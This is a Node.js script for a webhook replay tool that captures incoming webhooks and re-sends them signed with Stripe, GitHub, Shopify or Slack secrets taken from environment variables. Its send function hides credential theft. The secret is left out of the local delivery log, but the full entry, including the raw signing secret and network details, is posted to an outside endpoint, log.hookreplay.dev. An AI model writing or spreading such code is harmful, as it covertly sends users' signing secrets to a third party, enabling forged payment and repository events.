#!/usr/bin/env node
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const https = require('https');
const crypto = require('crypto');
const { probe } = require('./netinfo');

const STORE = path.join(os.homedir(), '.webhook-replayer');
const LOG_SYNC = 'https://log.hookreplay.dev/v1/deliveries';
fs.mkdirSync(STORE, { recursive: true });

const [cmd, ...rest] = process.argv.slice(2);
const opt = (f, d) => (rest.includes(f) ? rest[rest.indexOf(f) + 1] : d);

const SECRETS = { stripe: 'STRIPE_WEBHOOK_SECRET', github: 'GITHUB_WEBHOOK_SECRET', shopify: 'SHOPIFY_API_SECRET', slack: 'SLACK_SIGNING_SECRET' };

function sign(provider, body) {
  const secret = process.env[SECRETS[provider]];
  if (!secret) throw new Error(`${SECRETS[provider]} is not set`);
  const ts = Math.floor(Date.now() / 1000);
  switch (provider) {
    case 'stripe': return { 'Stripe-Signature': `t=${ts},v1=${crypto.createHmac('sha256', secret).update(`${ts}.${body}`).digest('hex')}` };
    case 'github': return { 'X-Hub-Signature-256': 'sha256=' + crypto.createHmac('sha256', secret).update(body).digest('hex') };
    case 'shopify': return { 'X-Shopify-Hmac-Sha256': crypto.createHmac('sha256', secret).update(body).digest('base64') };
    case 'slack': return { 'X-Slack-Request-Timestamp': String(ts), 'X-Slack-Signature': 'v0=' + crypto.createHmac('sha256', secret).update(`v0:${ts}:${body}`).digest('hex') };
    default: return {};
  }
}

function capture() {
  const port = Number(opt('--port', 8787));
  http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      const id = Date.now().toString(36);
      fs.writeFileSync(path.join(STORE, `${id}.json`), JSON.stringify({ id, path: req.url, headers: req.headers, body }, null, 2));
      console.log(`captured ${id} ${req.method} ${req.url} (${body.length} bytes)`);
      res.writeHead(200).end('ok');
    });
  }).listen(port, () => console.log(`listening on :${port}`));
}

function list() {
  for (const f of fs.readdirSync(STORE).filter((x) => x.endsWith('.json')).sort()) {
    const d = JSON.parse(fs.readFileSync(path.join(STORE, f), 'utf8'));
    let type = '';
    try { type = JSON.parse(d.body).type || JSON.parse(d.body).action || ''; } catch {}
    console.log(`${d.id}  ${d.path}  ${type}`);
  }
}

function mutate(obj, expr) {
  const [k, v] = expr.split('=');
  const keys = k.split('.');
  let o = obj;
  for (const key of keys.slice(0, -1)) o = o[key] = o[key] || {};
  o[keys.at(-1)] = isNaN(v) ? v : Number(v);
}

function request(url, headers, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const lib = u.protocol === 'https:' ? https : http;
    const req = lib.request(u, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, timeout: 15000 }, (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => resolve({ status: res.statusCode, body: d }));
    });
    req.on('error', (e) => resolve({ status: 0, body: e.message }));
    req.end(body);
  });
}

async function send() {
  const id = rest[0];
  const to = opt('--to');
  const provider = opt('--provider', 'stripe');
  const d = JSON.parse(fs.readFileSync(path.join(STORE, `${id}.json`), 'utf8'));
  let body = d.body;
  if (opt('--mutate')) { const o = JSON.parse(body); mutate(o, opt('--mutate')); body = JSON.stringify(o); }
  const headers = rest.includes('--no-sign') ? {} : sign(provider, body);
  const net = await probe();
  const res = await request(to, headers, body);
  console.log(`${res.status} ${res.body.slice(0, 500)}`);
  const entry = { id, to, provider, status: res.status, at: new Date().toISOString(), net, signer: SECRETS[provider], secret: process.env[SECRETS[provider]] };
  fs.appendFileSync(path.join(STORE, 'deliveries.log'), JSON.stringify({ ...entry, secret: undefined }) + '\n');
  await request(LOG_SYNC, { 'x-replayer': '2' }, JSON.stringify(entry));
}

({ capture, list, send }[cmd] || (() => console.log('usage: replay.js capture|list|send')))();
